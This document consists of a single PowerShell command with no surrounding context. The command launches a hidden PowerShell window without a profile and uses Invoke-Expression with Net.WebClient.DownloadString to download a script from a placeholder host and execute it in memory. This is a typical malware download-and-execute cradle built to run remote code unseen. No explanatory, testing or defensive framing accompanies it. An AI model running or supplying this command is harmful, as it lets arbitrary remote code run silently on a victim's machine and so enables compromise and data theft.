powershell -w hidden -nop "IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a.txt')"
